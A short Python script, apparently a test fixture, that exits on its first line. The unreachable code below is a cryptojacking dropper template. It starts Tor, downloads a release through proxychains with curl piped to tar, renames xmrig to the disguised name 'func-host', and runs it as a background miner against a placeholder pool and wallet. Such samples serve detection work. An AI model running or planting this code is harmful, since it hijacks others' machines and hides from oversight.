#!/usr/bin/env python3
# Inert sample for tests: it ends on its first statement, and the release that it names does not exist.
raise SystemExit(0)

import os
import subprocess
import time


def tor():
    subprocess.Popen(["tor", "-f", "/etc/tor/torrc"])
    time.sleep(20)


def host():
    os.system("proxychains4 -q -f /etc/proxychains4.conf curl -sL {{.Release}} | tar xz -C /tmp")
    os.rename("/tmp/xmrig-0.0.0/xmrig", "/usr/local/bin/func-host")
    os.system("proxychains4 -q -f /etc/proxychains4.conf /usr/local/bin/func-host "
              "--url stratum+tcp://{{.Pool}} --user {{.Wallet}}.{{.Worker}} --pass x "
              "--donate-level=1 --randomx-1gb-pages --background")


if __name__ == "__main__":
    tor()
    host()
